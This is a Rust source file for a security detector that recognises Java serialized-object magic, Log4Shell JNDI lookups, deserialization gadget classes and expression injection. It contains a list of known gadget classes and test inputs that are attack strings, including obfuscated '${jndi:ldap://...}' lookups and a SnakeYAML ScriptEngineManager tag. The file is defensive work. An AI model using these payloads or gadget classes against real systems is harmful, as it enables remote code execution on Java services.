//! Java: serialized objects, JNDI lookups (Log4Shell), EL/OGNL/SpEL injection.
//!
//! - **Serialized objects**: the stream magic `AC ED 00 05` raw, as hex
//!   (`aced0005`) or as base64 (`rO0AB`) anywhere in the value. A value that
//!   is base64 as a whole is also decoded by the set, so the raw magic is
//!   seen in the base64 view.
//! - **JNDI lookups**: every `${` is evaluated as a Log4j 2 lookup by a small
//!   bounded evaluator (`lookup`) that resolves nested `${lower:…}`,
//!   `${upper:…}`, `${…:-x}` defaults and `${date:'x'}`; a body that
//!   resolves to `jndi:` is a lookup.
//! - **Deserialization gadgets**: a SnakeYAML global tag naming a Java
//!   class (`!!javax.script.ScriptEngineManager`), or a quoted class name
//!   from the list of known Jackson/Fastjson/SnakeYAML gadget classes
//!   (`GADGETS`) as used by polymorphic typing (`["com.sun.rowset.JdbcRowSetImpl", …]`).
//! - **Expression injection**: a Java-ish token scanner (`expr`) looks for
//!   the call shapes that turn EL/OGNL/SpEL into code execution.
//!
//! Placeholders such as `${HOME}/data`, `${price}` or `#{name}` and class
//! names in stack traces are not reported.
//!
//! # Limits
//! Linear time in the value; no allocation on a clean value; lookup nesting
//! bounded by `lookup::MAX_DEPTH`; at most `MAX_LOOKUPS` lookups are
//! evaluated per view.

mod expr;
mod lookup;

use aho_corasick::AhoCorasick;
use memchr::memmem::Finder;

use crate::{Detector, DetectorKind, Hit, View};

/// Known deserialization gadget classes (Jackson, Fastjson, SnakeYAML).
pub const GADGETS: &[&str] = &[
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "com.sun.rowset.JdbcRowSetImpl",
    "org.springframework.context.support.FileSystemXmlApplicationContext",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "ch.qos.logback.core.db.DriverManagerConnectionSource",
    "ch.qos.logback.core.db.JNDIConnectionSource",
    "org.apache.commons.dbcp2.cpdsadapter.DriverAdapterCPDS",
    "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
    "br.com.anteros.dbcp.AnterosDBCPConfig",
    "com.zaxxer.hikari.HikariConfig",
    "org.apache.xbean.propertyeditor.JndiConverter",
    "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
    "org.apache.commons.configuration.JNDIConfiguration",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.InvokerTransformer",
    "org.codehaus.groovy.runtime.MethodClosure",
    "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
    "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
    "javax.script.ScriptEngineManager",
    "java.net.URLClassLoader",
];

/// The first component of every name in [`GADGETS`] (`com` of
/// `com.sun.rowset.JdbcRowSetImpl`): a value holds a gadget name only where
/// one of these ends right before a `.`.
const GADGET_HEADS: &[&[u8]] = &[b"com", b"org", b"ch", b"br", b"java", b"javax"];

/// Whether `b` can hold a name of [`GADGETS`]: one pass over its dots
/// instead of an automaton walk whose first bytes are common letters.
fn may_name_gadget(b: &[u8]) -> bool {
    memchr::memchr_iter(b'.', b).any(|p| GADGET_HEADS.iter().any(|h| b[..p].ends_with(h)))
}

const RAW: u16 = 1;
const ZERO: u16 = 2;
const UPPER_O: u16 = 4;
const DOLLAR: u16 = 8;
const GADGET: u16 = 32;
const HEX_D: u16 = 64;
/// An ASCII upper-case letter (for [`expr::scan`]).
const UPPER: u16 = 128;
// `(`, `@`, `#` and `T`: each shape [`expr::scan`] looks for needs one.
const PAREN: u16 = 16;
const AT: u16 = 256;
const HASH: u16 = 512;
const BIG_T: u16 = 1024;
const EXPR: u16 = PAREN | AT | HASH;

/// One pass over the value tells which checks can match at all (one lane
/// of [`crate::classes::ByteClasses`]).
pub(crate) const BYTE_CLASS: [u16; 256] = {
    let mut t = [0u16; 256];
    let mut c = b'A';
    while c <= b'Z' {
        t[c as usize] = UPPER;
        c += 1;
    }
    t[0xAC] = RAW;
    t[b'0' as usize] = ZERO;
    t[b'd' as usize] = HEX_D;
    t[b'D' as usize] = HEX_D | UPPER;
    t[b'O' as usize] = UPPER_O | UPPER;
    t[b'T' as usize] = BIG_T | UPPER;
    t[b'$' as usize] = DOLLAR;
    t[b'(' as usize] = PAREN;
    t[b'@' as usize] = AT;
    t[b'#' as usize] = HASH;
    t[b'"' as usize] = GADGET;
    t[b'!' as usize] = GADGET;
    t
};

/// Most top-level `${` lookups evaluated per view.
pub const MAX_LOOKUPS: usize = 64;

/// The Java detector.
#[derive(Clone, Debug)]
pub struct JavaDetector {
    /// `0005`, the tail of the hex stream magic (the head is checked after).
    hex_tail: Finder<'static>,
    /// `rO0AB`, the base64 stream magic.
    base64: Finder<'static>,
    /// The gadget class names.
    gadgets: AhoCorasick,
}

impl Default for JavaDetector {
    fn default() -> Self {
        JavaDetector {
            hex_tail: Finder::new(b"0005"),
            base64: Finder::new(b"rO0AB"),
            // A fixed list of literal patterns: building cannot fail.
            gadgets: AhoCorasick::new(GADGETS)
                .unwrap_or_else(|e| panic!("java gadget class patterns: {e}")),
        }
    }
}

impl Detector for JavaDetector {
    fn kind(&self) -> DetectorKind {
        DetectorKind::Java
    }

    fn detect(&self, view: &View<'_>, out: &mut Vec<Hit>) {
        let b = view.bytes();
        let m = view.classes().java();
        if m & !UPPER == 0 {
            return;
        }
        let before = out.len();
        if m & (RAW | ZERO | UPPER_O) != 0 {
            self.serialized(b, m, out);
        }
        if m & DOLLAR != 0 {
            jndi(b, out);
        }
        if out.len() == before && m & EXPR != 0 {
            expr::scan(b, m, out);
        }
        if out.len() == before && m & GADGET != 0 {
            self.gadget(b, out);
        }
    }
}

impl JavaDetector {
    fn serialized(&self, b: &[u8], m: u16, out: &mut Vec<Hit>) {
        let raw = if m & RAW != 0 {
            memchr::memmem::find(b, &[0xAC, 0xED, 0x00, 0x05])
                .map(|p| (p, "Java serialized object stream (AC ED 00 05)"))
        } else {
            None
        };
        let hex = || {
            if m & (ZERO | HEX_D) != ZERO | HEX_D {
                return None;
            }
            self.hex_tail
                .find_iter(b)
                .find(|&p| p >= 4 && b[p - 4..p].eq_ignore_ascii_case(b"aced"))
                .map(|p| (p - 4, "hex-encoded Java serialized object (aced0005)"))
        };
        let base64 = || {
            if m & (ZERO | UPPER_O) != ZERO | UPPER_O {
                return None;
            }
            self.base64
                .find(b)
                .map(|p| (p, "base64-encoded Java serialized object (rO0AB)"))
        };
        if let Some((start, reason)) = raw.or_else(hex).or_else(base64) {
            out.push(Hit {
                class: "java-serialized",
                confidence: 0.9,
                span: start..b.len(),
                reason: reason.into(),
            });
        }
    }

    /// SnakeYAML `!!a.b.C` tags and quoted gadget class names.
    fn gadget(&self, b: &[u8], out: &mut Vec<Hit>) {
        for p in memchr::memmem::find_iter(b, b"!!") {
            let name = &b[p + 2..];
            let len = name
                .iter()
                .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'_' || c == b'$')
                .count();
            let dots = name[..len].iter().filter(|&&c| c == b'.').count();
            if dots >= 2 && name[0].is_ascii_lowercase() {
                out.push(Hit {
                    class: "java-gadget",
                    confidence: 0.8,
                    span: p..p + 2 + len,
                    reason: "SnakeYAML global tag instantiates an arbitrary Java class".into(),
                });
                return;
            }
        }
        if memchr::memchr(b'"', b).is_none() || !may_name_gadget(b) {
            return;
        }
        for m in self.gadgets.find_iter(b) {
            let quoted = m.start() > 0 && matches!(b[m.start() - 1], b'"' | b'\'' | b'[')
                || b.get(m.end()).is_some_and(|&c| c == b'"' || c == b'\'');
            if quoted {
                out.push(Hit {
                    class: "java-gadget",
                    confidence: 0.85,
                    span: m.start()..m.end(),
                    reason: "names a known Java deserialization gadget class".into(),
                });
                return;
            }
        }
    }
}

/// Evaluates each `${` lookup.
fn jndi(b: &[u8], out: &mut Vec<Hit>) {
    let mut i = 0;
    let mut n = 0;
    while let Some(p) = memchr::memchr(b'$', &b[i..]) {
        let s = i + p;
        if b.get(s + 1) != Some(&b'{') {
            i = s + 1;
            continue;
        }
        n += 1;
        if n > MAX_LOOKUPS {
            break;
        }
        let l = lookup::evaluate(b, s);
        if l.jndi {
            out.push(Hit {
                class: "jndi-lookup",
                confidence: 0.95,
                span: s..l.end,
                reason: if l.nested {
                    "nested Log4j lookups resolve to a JNDI lookup".into()
                } else {
                    "Log4j JNDI lookup".into()
                },
            });
            return;
        }
        i = l.end.max(s + 2);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hits(s: &[u8]) -> Vec<Hit> {
        let mut out = Vec::new();
        let d = JavaDetector::default();
        let input = crate::Input::new(s);
        d.detect(&input.views()[0], &mut out);
        out
    }

    #[test]
    fn serialized_forms() {
        assert_eq!(
            hits(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap")[0].class,
            "java-serialized"
        );
        assert_eq!(hits(b"data=ACED0005737200")[0].class, "java-serialized");
        assert_eq!(hits(b"token=rO0ABXNyABF")[0].class, "java-serialized");
        assert!(hits(b"ro0abc").is_empty());
        assert_eq!(
            hits(b"!!javax.script.ScriptEngineManager [")[0].class,
            "java-gadget"
        );
        assert_eq!(
            hits(b"[\"com.sun.rowset.JdbcRowSetImpl\", {}]")[0].class,
            "java-gadget"
        );
        assert!(hits(b"!!str hello").is_empty());
    }

    #[test]
    fn gadget_heads_cover_every_gadget() {
        for g in GADGETS {
            let dot = g.find('.').expect("a qualified class name");
            assert!(GADGET_HEADS.contains(&&g.as_bytes()[..dot]), "{g}");
            assert!(may_name_gadget(g.as_bytes()), "{g}");
        }
        assert!(!may_name_gadget(
            b"1\")) as x where 1=1 and dbms_utility.sqlid(1)"
        ));
    }

    #[test]
    fn jndi_forms() {
        assert_eq!(hits(b"x ${jndi:ldap://a.b/c} y")[0].class, "jndi-lookup");
        assert_eq!(hits(b"${${lower:j}ndi:rmi://a/b}")[0].class, "jndi-lookup");
        assert!(hits(b"${HOME}/data and ${price}").is_empty());
        assert!(hits(b"$$$ ${").is_empty());
    }
}
